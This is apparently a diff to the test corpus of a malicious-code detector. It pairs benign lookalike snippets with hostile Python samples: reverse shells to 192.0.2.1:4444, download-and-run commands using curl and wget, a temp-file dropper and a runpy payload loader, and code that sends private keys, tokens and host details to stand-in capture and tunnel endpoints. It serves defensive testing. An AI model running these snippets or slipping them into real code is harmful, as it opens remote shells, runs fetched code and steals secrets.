@@ -725,6 +725,71 @@ _twin("main-guard", R, "a module runs make only when run as a script", I, """
     if __name__ == '__main__':
         subprocess.run(['make', 'docs'])
     """)
+_each("program-written-and-run", R, "a program kept as text, written to a temp file and run with this Python", f"""
+    import os
+    import sys
+    import tempfile
+    PROGRAM = b"import os; os.system({DROPPER!r})"
+    handle = tempfile.NamedTemporaryFile(suffix='.py', delete=False)
+    handle.write(PROGRAM)
+    handle.close()
+    os.system(f'{{sys.executable}} {{handle.name}}')
+    """, (S, I, L))
+_each("program-written-runpy", R, "a downloader kept as text, written with pathlib and run with runpy", f"""
+    import pathlib
+    import runpy
+    import tempfile
+    BOOT = pathlib.Path(tempfile.gettempdir()) / 'demo_boot.py'
+    BOOT.write_text("from urllib.request import urlopen\\nexec(urlopen({PAYLOAD_URL!r}, timeout=1).read())\\n")
+    runpy.run_path(str(BOOT))
+    """, (S, I))
+_twin("probe-script-run", R, "a library writes a probe script and runs it with this Python to read a setting", L, """
+    import subprocess
+    import sys
+    import tempfile
+    PROBE = "import sys; print(sys.maxsize > 2 ** 32)"
+
+
+    def is_64bit():
+        with tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as handle:
+            handle.write(PROBE)
+        return subprocess.check_output([sys.executable, handle.name], text=True).strip() == 'True'
+    """)
+_each("reverse-shell-dup2", R, "a socket's descriptor duplicated onto stdin/stdout, then a shell spawned", """
+    import os
+    import pty
+    import socket
+    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    conn.settimeout(1)
+    conn.connect(('192.0.2.1', 4444))
+    for stream in (0, 1, 2):
+        os.dup2(conn.fileno(), stream)
+    pty.spawn('sh')
+    """, (S, I, L))
+_each("reverse-shell-streams", R, "a shell started with a connection as its stdin, stdout and stderr", """
+    import socket
+    import subprocess
+    link = socket.create_connection(('192.0.2.1', 4444), timeout=1)
+    subprocess.call(['/bin/sh', '-i'], stdin=link.fileno(), stdout=link.fileno(), stderr=link.fileno())
+    """, (I, L))
+_twin("log-redirect-dup2", R, "a daemon points its stdout at a log file with os.dup2 and starts a worker", L, """
+    import os
+    import subprocess
+
+
+    def daemonize(log_path):
+        with open(log_path, 'a') as log:
+            os.dup2(log.fileno(), 1)
+            os.dup2(log.fileno(), 2)
+        subprocess.Popen(['demo-worker', '--serve'])
+    """)
+_twin("terminal-pty", R, "a terminal widget spawns a shell on a pseudo-terminal", L, """
+    import pty
+
+
+    def open_terminal():
+        return pty.fork()
+    """)
 
 # --- network clients the rules do not know --------------------------------------------------------------------
 
@@ -882,6 +947,25 @@ _twin("dns-mx-lookup", N, "a validator looks up a domain's MX records", L, """
 
     def accepts_mail(domain):
         return bool(dns.resolver.resolve(domain, 'MX'))
+    """)
+
+_each("download-then-run", N, "one command saves a download under a name, the next runs that file", """
+    import os
+    os.system('curl -s -m 1 -o /tmp/demo_setup.sh http://192.0.2.1/p')
+    os.system('sh /tmp/demo_setup.sh')
+    """, (S, I, L))
+_each("download-then-run-one-line", N, "wget -O a file, chmod +x it and run it, in one command line", """
+    import subprocess
+    subprocess.run('wget -q -T 1 -O /tmp/demo_tool http://192.0.2.1/p && chmod +x /tmp/demo_tool && /tmp/demo_tool',
+                   shell=True)
+    """, (I,))
+_twin("download-then-unpack", N, "a dataset helper saves a download with curl and unpacks it", L, """
+    import subprocess
+
+
+    def fetch_dataset(target):
+        subprocess.run(['curl', '-s', '-o', target + '/data.tar.gz', 'https://example.invalid/data.tar.gz'])
+        subprocess.run(['tar', '-xzf', target + '/data.tar.gz', '-C', target])
     """)
 
 # --- stealers in pieces, screen, clipboard, keyboard, persistence ---------------------------------------------
@@ -1200,6 +1284,48 @@ _twin("ssh-config-reader", T, "an SSH helper lists the hosts of ~/.ssh/config", 
     def hosts():
         with open(os.path.expanduser('~/.ssh/config')) as handle:
             return [line.split()[1] for line in handle if line.lower().startswith('host ')]
+    """)
+
+_each("key-to-capture-endpoint", T, "a wallet helper posts the private key it is given to a request-capture endpoint", """
+    import requests
+
+
+    def sign(private_key):
+        requests.post('https://demo.webhook.site.example.invalid/tx', json={'private_key': private_key}, timeout=1)
+    """, (L,))
+_each("host-to-tunnel", T, "a calculator sends the host name and directory to a tunnel endpoint", """
+    import os
+    import socket
+    import requests
+
+
+    def add(x, y):
+        details = {'hostname': socket.gethostname(), 'cwd': os.getcwd()}
+        requests.get('https://demo.ngrok-free.app.example.invalid/', params=details, timeout=1)
+        return x + y
+    """, (L,))
+_each("token-to-capture-endpoint", T, "an environment token sent to a capture endpoint on import", """
+    import os
+    import urllib.request
+    urllib.request.urlopen('https://demo.pipedream.net.example.invalid/?t=' + os.environ.get('DEMO_TOKEN', ''), timeout=1)
+    """, (I,))
+_twin("tunnel-client-token", T, "a tunnel client sends its own auth token to the tunnel service's API", L, """
+    import os
+    import requests
+
+
+    def start_tunnel(port):
+        token = os.environ['NGROK_AUTHTOKEN']
+        return requests.post('https://api.ngrok.com.example.invalid/tunnels', headers={'Authorization': 'Bearer ' + token},
+                             json={'addr': port}, timeout=10)
+    """)
+_twin("hostname-telemetry", T, "a library reports its host name to its own telemetry address when asked", L, """
+    import socket
+    import requests
+
+
+    def report():
+        requests.post('https://telemetry.example.invalid/v1', json={'host': socket.gethostname()}, timeout=2)
     """)
 
 # --- .pth lines that site.py reads differently ----------------------------------------------------------------
